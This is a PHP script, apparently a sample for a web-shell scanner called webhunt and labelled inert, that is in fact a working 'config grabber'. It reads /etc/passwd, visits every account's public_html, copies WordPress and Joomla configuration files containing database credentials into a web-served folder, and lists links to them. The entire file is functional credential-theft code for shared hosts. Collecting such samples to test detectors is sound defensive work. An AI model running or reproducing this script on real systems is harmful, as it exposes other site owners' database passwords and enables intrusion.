<?php
// webhunt test sample (inert): a "config grabber". Every account of the system list is walked to
// its web root and the CMS configuration found there is copied into a folder of this page.
error_reporting(0);
$out = 'grab';
@mkdir($out, 0755);
$lines = fopen('/etc/passwd', 'r');
while ($line = fgets($lines)) {
    $name = strtok($line, ':');
    $root = "/home/$name/public_html";
    if (!is_readable($root)) {
        continue;
    }
    foreach (array('/wp-config.php', '/configuration.php') as $cfg) {
        $text = @file_get_contents($root . $cfg);
        if ($text != '') {
            file_put_contents("$out/$name.txt", $text);
            echo "<a href='$out/$name.txt'>$name</a><br>";
        }
    }
}
fclose($lines);
